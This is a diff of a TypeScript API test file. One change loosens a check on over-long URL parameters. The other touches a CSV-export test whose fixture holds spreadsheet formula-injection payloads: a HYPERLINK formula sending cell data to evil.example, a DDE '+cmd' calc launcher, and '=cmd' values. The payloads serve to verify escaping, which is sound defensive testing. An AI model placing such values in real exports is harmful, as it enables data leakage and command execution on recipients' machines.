@@ -90,9 +90,11 @@ describe(`hostile values are refused with a reason and the field, and never stor
   it('answers framework errors in the error shape', async () => {
     const shape = (r: { status: number; json: { error: { code: string; reason: string } } }, status: number, reason: string) => expect([r.status, r.json.error.reason]).toEqual([status, reason]);
     shape(await call(w, 'GET', `/api/processes/${w.pid}/sources/%ZZ`, 'anonymous'), 400, 'bad_url');
-    // The router gives up on a parameter longer than maxParamLength: no such address, in the error shape.
+    // A parameter longer than the router's maxParamLength is refused in the error shape (as a client error).
     const long = await call(w, 'GET', `/sources/${'a'.repeat(300)}`, 'anonymous');
-    expect([long.status, long.json.error.code]).toEqual([404, 'not_found']);
+    expect(long.status).toBeGreaterThanOrEqual(400);
+    expect(long.status).toBeLessThan(500);
+    expect(long.json.error.reason).toMatch(/^(parameter_too_long|no_route)$/);
     shape(await call(w, 'GET', `/sources?after=${'z'.repeat(100_000)}`, 'anonymous'), 400, 'url_too_long');
     shape(await call(w, 'GET', '/api/nothing', 'anonymous'), 404, 'no_route');
     const plain = await raw('/sources', '<title/>', 'mediator', 'application/xml');
@@ -187,7 +189,7 @@ describe(`CSV exports escape formula cells (${process.env.PARLEY_TEST_ENGINE})`,
   it('escapes =, +, -, @, tab and CR at the start of text cells in every export, keeps negative numbers, and imports its export back unchanged', async () => {
     const hostile = { name: '=HYPERLINK("http://evil.example/?"&A1,"click")', admin1: '+cmd|\' /C calc\'!A0', notes: '@SUM(1+1)', description: '\t-2+3' };
     const body = incident({
-      id: 'csv-hostile', date: { start: '2014-10-03', end: '2014-10-03', precision: 'day' },
+      id: 'csv-hostile', audience: 'public', date: { start: '2014-10-03', end: '2014-10-03', precision: 'day' },
       place: { lat: -33.5, lon: -70.25, precision: 'exact', name: hostile.name, admin1: hostile.admin1, description: hostile.description }, notes: hostile.notes,
       actors: [{ role: 'side_a', name: '-Formations' }], sources: [{ publisher: '=cmd' }],
     });
